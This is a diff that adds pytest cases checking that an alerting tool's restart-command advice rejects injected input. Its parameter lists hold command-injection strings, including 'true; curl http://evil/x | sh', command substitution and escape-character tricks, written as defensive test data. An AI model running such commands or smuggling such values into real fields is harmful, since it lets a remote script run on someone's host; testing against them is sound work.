@@ -210,3 +210,38 @@ def test_a_command_that_a_message_asks_for_holds_no_other() -> None:
     )
     assert "docker restart 'web; curl x | sh'" in by_hand.text
     assert "restart web;" not in said.text + by_hand.text
+
+
+def _advice_with(restart: object, kind: str = "agent") -> str:
+    details = {"target": "web", "kind": kind, "restart": restart}
+    alert = Alert("a", f"{kind}_down", "high", "t", "web", 1e9, None, "", details)
+    return messages.message(alert, "en", "UTC", ()).text
+
+
+@pytest.mark.parametrize("kind", ["agent", "mcp", "other"])
+@pytest.mark.parametrize(
+    "row",
+    [
+        "true; curl http://evil/x | sh",
+        "docker restart $(evil)",
+        "docker restart web\nevil",
+        "docker restart 'web\nevil'",
+        "docker restart 'web\x1b[2K'",
+        "docker restart 'web\u202e'",
+        "docker restart 'web",
+        "docker restart ~/evil",
+        "docker restart web # evil",
+        "docker restart " + "evil" * 100,
+    ],
+)
+def test_nor_does_one_that_restarts_what_a_row_of_another_host_is_about(row: str, kind: str) -> None:
+    said = _advice_with(row, kind)
+    assert ": heartbeat recover --component web --force\n" in said
+    assert "evil" not in said and "docker restart" not in said
+
+
+@pytest.mark.parametrize(
+    "row", ["sudo /usr/bin/systemctl restart web --user", "docker restart 'web; x'", r"systemctl restart 'a\x2db'"]
+)
+def test_a_command_of_one_program_and_its_arguments_is_shown_as_it_is(row: str) -> None:
+    assert f"Restart the agent: {row}\n" in _advice_with(row)
